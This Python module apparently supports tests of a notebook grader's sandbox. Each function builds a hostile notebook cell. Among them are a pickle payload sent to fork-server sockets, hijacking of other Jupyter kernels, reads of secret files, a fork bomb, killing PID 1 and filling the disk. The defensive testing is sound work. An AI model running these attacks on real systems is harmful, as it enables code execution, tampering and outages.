"""The attacks of issue 13, and more, as code cells a hostile learner would submit.

Each function returns the source of one cell. A cell never raises (so the notebook goes on
and its findings are recorded): it tries its attack and records what happened with
``record("attack:<name>", ...)``, which the tests read from the executed notebook. Every
target is a path or a server of the test's own grader, passed in by the test: the grader
runs with its TMPDIR, HOME and runtime folder inside the test's scratch folder, and the
attacks search only the folders the test names (never the machine's own /tmp or /run: run
unsandboxed, as the control test does, they would reach other people's processes).
"""

from __future__ import annotations

from pathlib import Path

PRELUDE = (
    "import os, stat, json\n"
    "from mlops_kit.records import record\n"
    "try:\n"
    "    from ipykernel import get_connection_file\n"
    "    OWN = os.path.dirname(get_connection_file())  # its own sockets: not a target\n"
    "except Exception:\n"
    "    OWN = '/nonexistent'\n"
)


def forkserver(roots: list[str], marker: Path, key: Path) -> str:
    """Find every Unix socket (the grader's multiprocessing fork server listens on one under
    its TMPDIR) and send it a pickle whose unpickling copies the key to ``marker``."""
    payload = f"open({str(marker)!r}, 'w').write(open({str(key)!r}).read())"
    return (
        PRELUDE
        + f"""
import pickle, socket
from multiprocessing import reduction

class Evil:
    def __reduce__(self):
        return (exec, ({payload!r},))

found = []
for root in {roots!r}:
    for folder, dirs, files in os.walk(root):
        for name in files + dirs:
            path = os.path.join(folder, name)
            try:
                if path.startswith(OWN):
                    continue
                if stat.S_ISSOCK(os.lstat(path).st_mode) and path not in found:
                    found.append(path)
            except OSError:
                pass
tried = {{}}
for path in found:
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(3)
        s.connect(path)
        r, w = os.pipe()
        r2, w2 = os.pipe()
        reduction.sendfds(s, [r, w2, w2, w2])
        os.write(w, pickle.dumps(Evil()))
        os.close(w)
        tried[path] = "sent"
    except Exception as exc:
        tried[path] = type(exc).__name__
record("attack:forkserver", tried)
"""
    )


def hijack(roots: list[str], bad_value: float) -> str:
    """Find other kernels' connection files and make them answer ``bad_value`` from then on."""
    code = (
        "ip = get_ipython()\n"
        "good = ip.user_ns.get('answer')\n"
        f"ip.user_ns['answer'] = lambda qid, value, **kw: good(qid, {bad_value!r}, **kw)\n"
    )
    return (
        PRELUDE
        + f"""
import glob, time
from jupyter_client import BlockingKernelClient

mine = os.environ.get('JPY_SESSION_NAME')
hits = {{}}
deadline = time.time() + 25
while time.time() < deadline and not any(v == "executed" for v in hits.values()):
    files = []
    for root in {roots!r}:
        for folder, dirs, names in os.walk(root):
            files += [os.path.join(folder, n) for n in names if n.endswith('.json')]
    for path in files:
        if path in hits or path.startswith(OWN):
            continue
        try:
            info = json.load(open(path))
            if not isinstance(info, dict) or 'key' not in info or 'shell_port' not in info:
                continue
            kc = BlockingKernelClient()
            kc.load_connection_file(path)
            kc.start_channels()
            # no kernel_info first: a busy victim answers only after its cell; the request
            # waits in its queue and runs before the victim's next cell
            kc.execute({code!r})
            kc.get_shell_msg(timeout=30)
            hits[path] = "executed"
        except Exception as exc:
            hits[path] = type(exc).__name__
    time.sleep(0.5)
record("attack:hijack", hits)
"""
    )


def reader(paths: list[str], writes: list[str]) -> str:
    """Try to read files and list folders (``paths``) and to open ``writes`` for writing."""
    return (
        PRELUDE
        + f"""
seen = {{}}
for path in {paths!r}:
    try:
        if os.path.isdir(path):
            seen[path] = "listed:" + ",".join(sorted(os.listdir(path))[:20])
        else:
            with open(path, 'rb') as handle:
                seen[path] = "read:" + handle.read(200).decode('utf-8', 'replace')
    except Exception as exc:
        seen[path] = type(exc).__name__
for path in {writes!r}:
    try:
        with open(path, 'a') as handle:
            handle.write("pwned")
        seen["write " + path] = "written"
    except Exception as exc:
        seen["write " + path] = type(exc).__name__
seen["uid"] = os.getuid()
seen["env"] = sorted(os.environ)
record("attack:reader", seen)
"""
    )


def servers(unix_paths: list[str], abstract: str, tcp_port: int, udp_port: int) -> str:
    """Reach servers of the host: Unix sockets, an abstract socket, TCP and UDP on loopback."""
    return (
        PRELUDE
        + f"""
import socket
got = {{}}
def attempt(name, family, kind, address):
    try:
        s = socket.socket(family, kind)
        s.settimeout(3)
        s.connect(address)
        if kind == socket.SOCK_DGRAM:
            s.send(b"ping")
        got[name] = s.recv(5).decode()
    except Exception as exc:
        got[name] = type(exc).__name__
for path in {unix_paths!r}:
    attempt(path, socket.AF_UNIX, socket.SOCK_STREAM, path)
attempt("abstract", socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + {abstract!r})
attempt("tcp", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {tcp_port}))
attempt("udp", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", {udp_port}))
try:
    socket.getaddrinfo("example.com", 80)
    got["dns"] = "resolved"
except Exception as exc:
    got["dns"] = type(exc).__name__
record("attack:servers", got)
"""
    )


def escapes() -> str:
    """Privilege games: nested user namespaces, mounts, ptrace and kill of PID 1, TIOCSTI,
    set-uid programs, /proc of PID 1, kill(-1), a fork bomb, filling the disk and /tmp."""
    return (
        PRELUDE
        + """
import ctypes, fcntl, signal, subprocess, termios, time
libc = ctypes.CDLL(None, use_errno=True)
done = {}
def errno_of(result):
    return "ok" if result == 0 else os.strerror(ctypes.get_errno())
done["unshare_user"] = errno_of(libc.unshare(0x10000000))
done["mount_tmpfs"] = errno_of(libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None))
done["ptrace_pid1"] = errno_of(libc.ptrace(16, 1, None, None))  # PTRACE_ATTACH
try:
    os.kill(1, signal.SIGKILL)
    done["kill_pid1"] = "sent"
except OSError as exc:
    done["kill_pid1"] = exc.strerror
for fd in (0, 1, 2):
    try:
        fcntl.ioctl(fd, termios.TIOCSTI, b"x")
        done[f"tiocsti_{fd}"] = "typed"
    except OSError as exc:
        done[f"tiocsti_{fd}"] = exc.strerror
for path in ("/proc/1/environ", "/proc/1/mem", "/proc/1/fd"):
    try:
        shown = os.listdir(path) if path.endswith("fd") else open(path, "rb").read(20)
        done[path] = "read:" + str(shown)
    except OSError as exc:
        done[path] = exc.strerror
for program in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-t", "tmpfs", "x", "/tmp"]):
    try:
        run = subprocess.run(program, capture_output=True, text=True, timeout=10)
        done[program[0]] = f"rc {run.returncode}"
    except Exception as exc:
        done[program[0]] = type(exc).__name__
children = 0
try:
    while children < 5000:
        pid = os.fork()
        if pid == 0:
            time.sleep(3)
            os._exit(0)
        children += 1
except OSError as exc:
    done["fork_stopped_by"] = exc.strerror
done["forked"] = children
try:
    os.kill(-1, signal.SIGKILL)  # everything this user may signal
except OSError as exc:
    done["kill_all"] = exc.strerror
while True:
    try:
        os.waitpid(-1, 0)
    except ChildProcessError:
        break
for path, size in (("big.bin", 1100), ("/tmp/big.bin", 600)):
    try:
        with open(path, "wb") as handle:
            for _ in range(size):
                handle.write(b"\\0" * (1024 * 1024))
        done["fill " + path] = "wrote"
    except OSError as exc:
        done["fill " + path] = exc.strerror
    finally:
        if os.path.exists(path):
            os.remove(path)
record("attack:escapes", done)
"""
    )


def sleep(seconds: float) -> str:
    """A slow cell, so a victim is still running when the attackers run."""
    return f"import time\ntime.sleep({seconds})"


def hostile_records() -> str:
    """Displays of the kit's record type the grader must survive, and absurd answers."""
    return (
        PRELUDE
        + """
from IPython.display import display
from mlops_kit.records import MIME_TYPE
display({MIME_TYPE: {"value": 19}, "text/plain": ""}, raw=True)          # no name
display({MIME_TYPE: {"name": 5, "value": 19}, "text/plain": ""}, raw=True)  # an integer name
display({MIME_TYPE: "not json", "text/plain": ""}, raw=True)
display({MIME_TYPE: {"name": "answer:q2", "value": [[[[1]]]]}, "text/plain": ""}, raw=True)
"""
    )
